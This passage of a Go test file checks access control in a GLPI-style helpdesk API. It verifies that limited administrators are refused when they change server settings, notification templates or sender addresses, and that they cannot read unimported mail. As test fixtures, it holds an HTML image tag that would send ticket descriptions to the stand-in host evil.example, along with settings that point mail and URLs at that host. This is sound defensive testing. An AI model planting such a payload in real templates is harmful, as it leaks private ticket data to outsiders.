		s.Call("half", "PATCH", "/Setup/Config/CORE/"+name, testapi.Body{"value": "1"}).Want(403)
		s.Call("half", "DELETE", "/Setup/Config/core/"+name, nil).Want(403)
		s.Call("glpi", "PATCH", "/Setup/Config/core/"+name, testapi.Body{"value": ""}).Want(200)
	}
	s.Call("half", "PATCH", "/Setup/Config/core/smtp_max_retries", testapi.Body{"value": "3"}).Want(200)
	france := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "France", "parent": 0}).ID()
	s.Employ("jeanne", 4, france, true) // administers, but there alone
	s.Call("jeanne", "PATCH", "/Setup/Config/core/smtp_host", testapi.Body{"value": "evil.example"}).Want(403)
}

// TestLettersOfOthers keeps those who may configure the server, and do not see everything, from what notifications of
// others say, and from being told of everything: by the texts that all entities' notifications share, and by addresses
// of administrators, of the server and of entities.
func TestLettersOfOthers(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	france := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "France", "parent": 0}).ID()
	s.Employ("jeanne", 4, france, true) // administers, but there alone
	s.Recruit("half", 0, map[string]int{"config": 3, "notification": 31, "entity": 3, "ticket": 1, "followup": 1})
	template := s.Scalar("SELECT MIN(`t`.`id`) FROM `glpi_notificationtemplates` `t` JOIN" +
		" `glpi_notifications_notificationtemplates` `l` ON `l`.`notificationtemplates_id` = `t`.`id`" +
		" JOIN `glpi_notifications` `n` ON `n`.`id` = `l`.`notifications_id` WHERE `n`.`itemtype` = 'Ticket'")
	const templates = "/Notifications/NotificationTemplate"
	at := templates + "/" + template
	text := fmt.Sprintf("%s/Translation/%v", at,
		s.Call("glpi", "GET", at+"/Translation", nil).Want(200).List()[0]["id"])
	leak := testapi.Body{"content_html": `<img src="https://evil.example/?##ticket.description##">`}
	for _, who := range []string{"jeanne", "half"} {
		s.Call(who, "PATCH", at, testapi.Body{"css": "p{}"}).Want(403)
		s.Call(who, "DELETE", at, nil).Want(403)
		s.Call(who, "PATCH", text, leak).Want(403)
		s.Call(who, "DELETE", text, nil).Want(403)
		leak["language"] = "fr_FR"
		s.Call(who, "POST", at+"/Translation", leak).Want(403)
		delete(leak, "language")
		own := fmt.Sprintf("%s/%d", templates, s.Call(who, "POST", templates,
			testapi.Body{"name": "own", "itemtype": "Ticket"}).ID())
		s.Call(who, "POST", own+"/Translation", testapi.Body{"subject": "x"}).Want(201)
		s.Call(who, "PATCH", own, testapi.Body{"name": "mine"}).Want(200)
		for _, name := range []string{"admin_email", "from_email", "replyto_email", "noreply_email", "url_base"} {
			s.Call(who, "PATCH", "/Setup/Config/core/"+name, testapi.Body{"value": "https://evil.example"}).Want(403)
		}
	}
	s.Call("glpi", "PATCH", at, testapi.Body{"css": "p{}"}).Want(200)
	s.Call("glpi", "PATCH", text, testapi.Body{"subject": "x"}).Want(200)
	s.Call("glpi", "PATCH", "/Setup/Config/core/url_base", testapi.Body{"value": "https://desk.example"}).Want(200)
	for _, name := range []string{"admin_email", "from_email", "replyto_email"} {
		address := testapi.Body{name: "half@evil.example"}
		s.Call("half", "PATCH", "/Administration/Entity/0", address).Want(403)
		s.Call("half", "PATCH", "/Administration/Entity/0", testapi.Body{name: "", "mailing_signature": "x"}).Want(200)
		s.Call("jeanne", "PATCH", fmt.Sprintf("/Administration/Entity/%d", france), address).Want(200)
	}
}

// TestMailOfOthers shows mail that became nothing to those alone who reach all entities: it names people and what they
// wrote, of any.
func TestMailOfOthers(t *testing.T) {
	t.Parallel()
	s := samples.New(t)
	here := s.Call("glpi", "POST", "/Administration/Entity", testapi.Body{"name": "here", "parent": 0}).ID()
	s.Employ("ofhere", 4, here, true)
	s.Employ("ofroot", 4, 0, false)
	s.Exec("INSERT INTO `glpi_notimportedemails` (`from`, `to`, `subject`, `reason`) VALUES ('ann@example.org'," +
		" 'desk@example.org', 'SECRET', 0)")
	list := s.Call("glpi", "GET", "/Setup/NotImportedEmail", nil).Want(200).List()
	for _, who := range []string{"ofhere", "ofroot"} {
		s.Call(who, "GET", "/Setup/NotImportedEmail", nil).Want(403)
		s.Call(who, "GET", fmt.Sprintf("/Setup/NotImportedEmail/%v", list[0]["id"]), nil).Want(403)
		if got := s.Graph(who, "{ NotImportedEmail { subject } }"); strings.Contains(fmt.Sprint(got), "SECRET") {
			t.Errorf("%s: %v", who, got)
		}
	}
}
